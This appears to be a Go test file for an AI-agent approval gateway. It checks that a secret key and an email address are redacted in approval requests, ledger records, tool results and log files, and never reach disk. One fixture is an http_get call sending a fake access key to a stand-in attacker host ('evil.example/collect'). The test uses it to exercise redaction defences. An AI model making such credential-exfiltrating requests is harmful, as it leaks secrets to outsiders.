package app

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/portcullis-ai/portcullis/internal/approval"
	"github.com/portcullis-ai/portcullis/internal/config"
	"github.com/portcullis-ai/portcullis/internal/ledger"
)

// holdAndExplain holds every call of other-agent for approval, with conditions that quote the
// parameters in the explanation (and so in the record, the approval request and its conditions).
const holdAndExplain = `agent_id: other-agent
default_action: DENY
rules:
  - name: hold_and_explain
    tool: ".*"
    action: CONSTRAIN
    conditions:
      - parameter: url
        match: ".*"
      - parameter: to
        match: ".*"
      - parameter: note
        match: ".*"
      - expr: 'timestamp(params.to) > timestamp("2020-01-01T00:00:00Z")'
`

// redactionGateway is a gateway on a SQLite data directory where other-agent's calls all wait
// for approval, and an approver who sees every request; it logs at debug, so that the log can be
// searched for secrets too.
func redactionGateway(t *testing.T) (g *gateway, otherKey, approverKey string) {
	t.Helper()
	return otherAgentGateway(t, holdAndExplain, []string{".*"}, func(cfg *config.Config) { cfg.Log.Level = "debug" })
}

// A fake key appended to an attacker's URL must not blind the approver to the URL: only the key
// is replaced, marked with what it was, in the approval request, the ledger record and a redacted
// tool result alike; the grant still binds the real parameters.
func TestRedactionReplacesOnlyTheSecret(t *testing.T) {
	g, otherKey, approverKey := redactionGateway(t)
	const url = "https://evil.example/collect?x=AKIAQ7ZK2M4N6P8R3T5V"
	const shownURL = "https://evil.example/collect?x=[REDACTED:aws_access_key]"
	params := `{"url":"` + url + `","to":"ops","note":"mail jane.roe@corp-mail.example today"}`
	_, d := g.post("/v1/decide", otherKey, []byte(`{"tool":"http_get","params":`+params+`}`))
	if d.Decision != "CONSTRAIN" || d.ApprovalID == "" {
		t.Fatalf("setup: %+v %+v", d, d.Error)
	}

	// The approver sees the URL, with the key marked as removed.
	reqs := g.listApprovals(approverKey, "state=pending")
	if len(reqs) != 1 {
		t.Fatalf("%d pending requests, want 1", len(reqs))
	}
	var shown map[string]string
	if err := json.Unmarshal(reqs[0].Params, &shown); err != nil {
		t.Fatal(err)
	}
	if shown["url"] != shownURL {
		t.Errorf("approver sees url %q, want %q", shown["url"], shownURL)
	}
	if shown["note"] != "mail [REDACTED:email] today" {
		t.Errorf("approver sees note %q, want only the address replaced", shown["note"])
	}

	// The decision record shows the same.
	g.scanLedger(func(r ledger.Record) {
		if r.DecisionID != d.DecisionID || r.Kind != ledger.KindDecision {
			return
		}
		var p map[string]string
		if err := json.Unmarshal(r.Params, &p); err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(p["url"], "https://evil.example/collect?x=[REDACTED:aws_access_key") || strings.Contains(p["url"], "AKIA") {
			t.Errorf("record params url = %q, want the URL with only the key replaced", p["url"])
		}
	})

	// The grant binds the real parameters: approved, the exact call runs once.
	if _, err := g.app.approvals.Approve(context.Background(), d.ApprovalID,
		approval.Approver{ID: "alice@example.com", Kind: approval.Human, Scopes: []approval.Scope{{Agents: []string{".*"}, Tools: []string{".*"}}}}, ""); err != nil {
		t.Fatal(err)
	}
	_, run := g.post("/v1/decide", otherKey, []byte(`{"tool":"http_get","approval_id":"`+d.ApprovalID+`","params":`+params+`}`))
	if run.Decision != "ALLOW" {
		t.Fatalf("approved call: %+v %+v", run, run.Error)
	}

	// A tool result carrying personal data (below the block level) is forwarded with the address
	// alone replaced.
	_, o := g.post("/v1/outcome", otherKey, []byte(`{"decision_id":"`+run.DecisionID+`","outcome_token":"`+run.Token+`","ran":true,"success":true,"result":{"body":"status ok; owner jane.roe@corp-mail.example notified"}}`))
	if o.Action != "redact" || string(o.Result) != `{"body":"status ok; owner [REDACTED:email] notified"}` {
		t.Errorf("redacted result: %s %s", o.Action, o.Result)
	}
}

// A detected secret and a PII value never reach the data directory's files — the ledger and the
// approval store, their -wal and -shm files included — nor the log: not through the parameters,
// the explanation's condition details, the approval request's conditions or an error message.
func TestSecretsAndPIINeverReachDisk(t *testing.T) {
	g, otherKey, approverKey := redactionGateway(t)
	const secret = "AKIAQ7ZK2M4N6P8R3T5V"
	const pii = "jane.roe@corp-mail.example"
	bodies := []string{
		`{"tool":"send_email","params":{"url":"https://ok.example/","to":"` + secret + `","note":"` + pii + `"}}`,
		`{"tool":"send_email","params":{"url":"https://ok.example/?k=` + secret + `","to":"x ` + pii + `","note":"n"}}`,
	}
	for _, b := range bodies {
		if _, d := g.post("/v1/decide", otherKey, []byte(b)); d.Decision != "CONSTRAIN" {
			t.Fatalf("setup: %+v %+v", d, d.Error)
		}
	}
	reqs := g.listApprovals(approverKey, "state=pending")
	if len(reqs) != len(bodies) {
		t.Fatalf("%d pending requests, want %d", len(reqs), len(bodies))
	}
	api, _ := json.Marshal(reqs)
	check := func(where string, b []byte) {
		t.Helper()
		for _, s := range []string{secret, pii} {
			if bytes.Contains(b, []byte(s)) {
				i := bytes.Index(b, []byte(s))
				t.Errorf("%s holds %q: …%s…", where, s, b[max(0, i-120):min(len(b), i+60)])
			}
		}
	}
	check("the approvals API", api)
	// Every file of the data directory, while the gateway runs (the SQLite -wal and -shm files
	// hold the latest pages then) and again once it has closed and checkpointed.
	readAll := func() (names []string) {
		t.Helper()
		err := filepath.WalkDir(g.dir, func(path string, e os.DirEntry, err error) error {
			if err != nil || e.IsDir() {
				return err
			}
			b, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			names = append(names, filepath.Base(path))
			check(path, b)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return names
	}
	running := strings.Join(readAll(), " ")
	for _, f := range []string{"ledger.db", "ledger.db-wal", "ledger.db-shm", "approvals.db", "approvals.db-wal"} {
		if !strings.Contains(" "+running+" ", " "+f+" ") {
			t.Errorf("%s not read (files: %s)", f, running)
		}
	}
	g.app.Close(context.Background())
	readAll()
	check("the log", []byte(g.logBuf()))
}
